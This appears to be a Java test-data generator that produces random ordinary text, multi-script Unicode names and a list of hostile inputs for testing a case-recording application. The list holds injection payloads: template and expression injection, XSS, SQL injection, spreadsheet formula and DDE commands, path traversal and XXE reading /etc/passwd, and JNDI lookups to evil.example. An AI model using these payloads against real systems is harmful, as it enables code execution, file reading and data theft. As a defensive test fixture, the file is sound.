package uk.dapo.doors;

import java.util.List;
import java.util.Random;

/** Writes text: ordinary, of every script, and hostile. */
final class Pen {

    /** Allowed wherever text is: must be kept as it is, never run and never shown as anything but text. */
    static final List<String> HOSTILE = List.of("${7*7}", "#{runtimeService}", "${execution.setVariable('area','Sutton')}", "=1+1", "{{respondentName}}", "{{= 7*7 }}", "__${T(java.lang.Runtime)}__::x",
            "[[${7*7}]]", "*{7*7}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr>", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "**bold** _it_ `c`",
            "'; drop table register.person; --", "\" or \"\"=\"", "\\'; --", "=HYPERLINK(\"http://evil.example\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "../../etc/passwd", "%00%0a%0d", "%s%n%x", "&lt;b&gt;",
            "&#0;", "\\u0000", "null", "undefined", "NaN", "true", "0", "-1", "{}", "[]", "{\"a\":1}", "<!--", "]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "jndi:ldap://evil.example/a",
            "${jndi:ldap://evil.example/a}");

    /** Of every script, with marks, joined and wide. */
    static final List<String> SCRIPTS = List.of("Seán Ó Briain", "王小明", "علي حسن", "שרה לוי", "Zoë 😀", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "e\u0301e\u0301", "Z̷̢͎a̴l̶g̸o̶", "ไทย", "हिन्दी", "Ελληνικά", "ﬁligree", "İstanbul", "ß", "Anne-Marie O’Keeffe", "\u202Fnarrow", "a\u00A0b", "a\u00ADb", "a\u200Db");

    private static final String[] WORDS = ("he she said the door was shut and then came back at night with keys to flat where neighbours heard shouting before police arrived officer saw bruise on arm "
            + "phone taken twice this year children were asleep mother told nobody until Monday statement signed court").split(" ");

    private final Random random;

    Pen(Random random) {
        this.random = random;
    }

    /** Ordinary words, between these lengths. */
    String words(int least, int most) {
        StringBuilder text = new StringBuilder("Account: ");
        int wanted = least + random.nextInt(Math.max(1, Math.min(most - least, 120)));
        while (text.length() < wanted) {
            text.append(WORDS[random.nextInt(WORDS.length)]).append(' ');
        }
        return cut(text.toString().strip() + "aaa", least, most);
    }

    /** Anything that is text, between these lengths. */
    String anything(int least, int most) {
        List<String> pool = random.nextBoolean() ? HOSTILE : SCRIPTS;
        StringBuilder text = new StringBuilder(pool.get(random.nextInt(pool.size())));
        while (text.codePointCount(0, text.length()) < least) {
            text.append(' ').append(WORDS[random.nextInt(WORDS.length)]);
        }
        if (random.nextInt(10) == 0) {
            text.append("x".repeat(Math.max(0, most - text.codePointCount(0, text.length()))));
        }
        return cut(text.toString(), least, most);
    }

    /** A name people could have. */
    String name() {
        StringBuilder name = new StringBuilder();
        for (int word = 0; word < 2 + random.nextInt(2); word++) {
            name.append((char) ('A' + random.nextInt(26)));
            for (int letter = 0; letter < 3 + random.nextInt(7); letter++) {
                name.append((char) ('a' + random.nextInt(26)));
            }
            name.append(' ');
        }
        return name.toString().strip();
    }

    /** Text that a simple pattern takes: literals, classes, groups, counts and alternatives' first branch. */
    String matching(String pattern) {
        return new PatternPen(random, pattern).write();
    }

    private static String cut(String text, int least, int most) {
        int length = text.codePointCount(0, text.length());
        String cut = length <= most ? text : text.substring(0, text.offsetByCodePoints(0, most));
        String stripped = cut.strip();
        return stripped.codePointCount(0, stripped.length()) < least ? stripped + "a".repeat(least - stripped.codePointCount(0, stripped.length())) : cut;
    }
}
